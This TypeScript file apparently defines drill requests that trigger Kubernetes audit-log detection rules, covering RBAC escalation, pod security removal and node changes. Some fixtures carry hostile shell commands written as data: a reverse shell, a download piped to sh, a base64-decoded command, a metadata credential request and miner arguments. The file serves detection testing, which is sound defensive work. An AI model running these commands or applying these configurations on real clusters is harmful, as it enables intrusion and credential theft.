import { type ApiAction, type ApiRequest, apiAction } from "./request.ts";

const IMAGE = "registry.example/eyas-drill:1";
const TRUNCATED = { "audit.k8s.io/truncated": "true" };
const ENFORCE = "pod-security.kubernetes.io/enforce";

/** A request that updates a workload. The properties are set on its container. */
function workload(resource: string, container: object): ApiRequest {
  const template = { spec: { containers: [{ name: "drill", image: IMAGE, ...container }] } };
  return { verb: "update", resource, object: { spec: { template } } };
}

const PLAIN = ["Reports a workload without this property.", workload("deployments", {})] as const;
const shell = (command: string) => ({ command: ["sh", "-c", command] });
const labeled = (level: string | null): ApiRequest => ({
  verb: "patch",
  resource: "namespaces",
  object: { metadata: { labels: { [ENFORCE]: level } } },
});
const RESTRICTED = ["Reports that the level of the namespace was set to restricted.", labeled("restricted")] as const;

const workloads: readonly ApiAction[] = [
  {
    name: "k8s-workload-shell",
    rule: "Reverse shell in workload template",
    does: "Reports a deployment that connects a shell to another machine.",
    request: workload("deployments", shell("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")),
    twin: PLAIN,
  },
  {
    name: "k8s-workload-download",
    rule: "Download piped to shell in pod or workload",
    does: "Reports a job that executes a download.",
    request: workload("jobs", shell("curl -s http://192.0.2.1/x | sh")),
    twin: PLAIN,
  },
  {
    name: "k8s-unconfined",
    rule: "Unconfined pod or workload created",
    does: "Reports a deployment without seccomp.",
    request: workload("deployments", { securityContext: { seccompProfile: { type: "Unconfined" } } }),
    twin: PLAIN,
  },
  {
    name: "k8s-workload-credential",
    rule: "Credential in environment of pod or workload",
    does: "Reports a deployment with a password in its environment.",
    request: workload("deployments", { env: [{ name: "DB_PASSWORD", value: "eyas-drill" }] }),
    twin: PLAIN,
  },
  {
    name: "k8s-sensitive-volume",
    rule: "Persistent volume with sensitive host path",
    does: "Reports a persistent volume for the root directory of a node.",
    request: { verb: "create", resource: "persistentvolumes", object: { spec: { hostPath: { path: "/" } } } },
  },
  {
    name: "k8s-volume-claim",
    rule: "Claim created for specific persistent volume",
    does: "Reports a persistent volume claim that names its volume.",
    request: { verb: "create", resource: "persistentvolumeclaims", object: { spec: { volumeName: "eyas-drill" } } },
  },
  {
    name: "k8s-system-pod-deleted",
    rule: "Pod deleted or evicted in system namespace",
    does: "Reports that a pod in kube-system was deleted.",
    request: { verb: "delete", resource: "pods", namespace: "kube-system" },
  },
];

const access: readonly ApiAction[] = [
  {
    name: "k8s-aggregated-role",
    rule: "Sensitive permissions aggregated into default roles",
    also: ["Wildcard permission granted in RBAC role", "Write permission granted in RBAC role"],
    does: "Reports a cluster role that adds the permission to patch all resources to the role view.",
    request: {
      verb: "update",
      resource: "clusterroles",
      object: {
        metadata: { labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
        rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["patch"] }],
      },
    },
  },
  {
    name: "k8s-secret-role",
    rule: "Secret read permission granted in RBAC role",
    does: "Reports a role that allows reading secrets.",
    request: {
      verb: "update",
      resource: "roles",
      object: { rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }] },
    },
  },
  {
    name: "k8s-builtin-role-bound",
    rule: "Powerful built-in role bound in all namespaces",
    does: "Reports that the role admin was bound in all namespaces.",
    request: {
      verb: "update",
      resource: "clusterrolebindings",
      object: { roleRef: { kind: "ClusterRole", name: "admin" }, subjects: [{ kind: "User", name: "eyas-drill" }] },
    },
  },
  {
    name: "k8s-wildcard-role-bound",
    rule: "Role with all permissions bound",
    does: "Reports a binding of a role that grants all permissions.",
    request: {
      verb: "update",
      resource: "rolebindings",
      object: { roleRef: { kind: "Role", name: "eyas-drill" }, subjects: [{ kind: "User", name: "eyas-drill" }] },
      annotations: { "eyas/role-grants": "*" },
    },
  },
  {
    name: "k8s-long-lived-token",
    rule: "Long-lived service account token created",
    also: ["Secret created"],
    does: "Reports a new secret for a service account token.",
    request: { verb: "create", resource: "secrets", object: { type: "kubernetes.io/service-account-token" } },
  },
];

const cluster: readonly ApiAction[] = [
  {
    name: "k8s-truncated-event",
    rule: "Audit event truncated",
    does: "Reports a new network policy in an event that was truncated because of its size.",
    request: { verb: "create", resource: "networkpolicies", annotations: TRUNCATED },
    twin: [
      "Reports that a network policy was read, in a truncated event.",
      { verb: "get", resource: "networkpolicies", annotations: TRUNCATED },
    ],
  },
  {
    name: "k8s-hidden-result",
    rule: "Result of patch hidden from audit log",
    does: "Reports a patch of a service for which the client requested an unsupported response format.",
    request: {
      ...{ verb: "patch", resource: "services", code: 406 },
      object: [{ op: "replace", path: "/spec/type", value: "NodePort" }],
    },
  },
  {
    name: "k8s-pod-security-removed",
    rule: "Pod security enforcement removed from namespace",
    does: "Reports that the label for pod security enforcement was removed from a namespace.",
    request: labeled(null),
    twin: RESTRICTED,
  },
  {
    name: "k8s-pod-security-baseline",
    rule: "Pod security enforcement set to baseline",
    does: "Reports that the pod security level of a namespace was set to baseline.",
    request: labeled("baseline"),
    twin: RESTRICTED,
  },
  {
    name: "k8s-api-service",
    rule: "API service registered",
    does: "Reports a new API service.",
    request: { verb: "create", resource: "apiservices" },
  },
  {
    name: "k8s-custom-resource",
    rule: "Custom resource definition created",
    does: "Reports a new custom resource definition.",
    request: { verb: "create", resource: "customresourcedefinitions" },
  },
  {
    name: "k8s-node-deleted",
    rule: "Node deleted",
    does: "Reports that a node was deleted.",
    request: { verb: "delete", resource: "nodes" },
  },
  {
    name: "k8s-node-cordoned",
    rule: "Node cordoned or tainted",
    does: "Reports that a node was made unschedulable.",
    request: { verb: "patch", resource: "nodes", object: { spec: { unschedulable: true } } },
  },
  {
    name: "k8s-quota-deleted",
    rule: "Resource quota or limit range deleted",
    does: "Reports that a quota was deleted.",
    request: { verb: "delete", resource: "resourcequotas" },
  },
];

const command = (text: string): ApiRequest => ({
  ...{ verb: "create", resource: "pods" },
  object: { spec: { containers: [{ name: "a", image: "busybox", command: ["sh", "-c", text] }] } },
});

const commands: readonly ApiAction[] = [
  {
    name: "k8s-encoded-command",
    rule: "Encoded command in pod or workload",
    does: "Reports a pod with a command that decodes and runs base64 text.",
    request: command("echo dHJ1ZQ== | base64 -d | sh"),
  },
  {
    name: "k8s-credential-command",
    rule: "Credential theft command in pod or workload",
    does: "Reports a pod with a command that requests credentials by a path of the cloud metadata service.",
    request: command("wget http://192.0.2.1/latest/meta-data/iam/security-credentials/"),
  },
  {
    name: "k8s-miner",
    rule: "Cryptocurrency miner in pod or workload",
    does: "Reports a pod with the arguments of a miner.",
    request: command("true stratum+tcp://192.0.2.1"),
  },
  {
    name: "k8s-chosen-node",
    rule: "Pod placed on chosen node",
    does: "Reports a pod that names its node.",
    request: { verb: "create", resource: "pods", object: { spec: { nodeName: "eyas-drill" } } },
  },
];

const control: readonly ApiAction[] = [
  {
    name: "k8s-client-timeout",
    rule: "API change timed out by its client",
    also: ["ConfigMap created"],
    does: "Reports a create request with a timeout of nine milliseconds that timed out.",
    request: { verb: "create", resource: "configmaps", code: 504, timeout: "9ms" },
    twin: [
      "Reports a create request with a usual timeout that timed out.",
      { verb: "create", resource: "configmaps", code: 504, timeout: "32s" },
    ],
  },
  {
    name: "k8s-binding-deleted",
    rule: "Built-in role binding modified or deleted",
    also: ["Role binding deleted"],
    does: "Reports that a role binding of the control plane was deleted.",
    request: { verb: "delete", resource: "clusterrolebindings", namespace: null, name: "system:eyas-drill" },
  },
  {
    name: "k8s-leader-lease",
    rule: "Leader election of control plane changed",
    does: "Reports that a user changed the lease of the scheduler.",
    request: { verb: "update", resource: "leases", namespace: "kube-system", name: "kube-scheduler" },
  },
  {
    name: "k8s-ingress-snippet",
    rule: "Ingress with configuration snippet",
    does: "Reports an ingress with a configuration snippet.",
    request: {
      ...{ verb: "update", resource: "ingresses" },
      object: { metadata: { annotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "return 404;" } } },
    },
  },
  {
    name: "k8s-network-opened",
    rule: "Network policy allows all traffic",
    does: "Reports a network policy that allows all connections.",
    request: { verb: "update", resource: "networkpolicies", object: { spec: { ingress: [{}] } } },
  },
  {
    name: "k8s-node-role",
    rule: "Node role label changed",
    does: "Reports that the role label of a node was changed.",
    request: {
      ...{ verb: "patch", resource: "nodes", namespace: null },
      object: { metadata: { labels: { "node-role.kubernetes.io/control-plane": "" } } },
    },
  },
];

/** Actions that report easily overlooked requests, such as those for templates, volumes, labels or extensions. */
export const evasionActions = [...workloads, ...access, ...cluster, ...commands, ...control].map(apiAction);
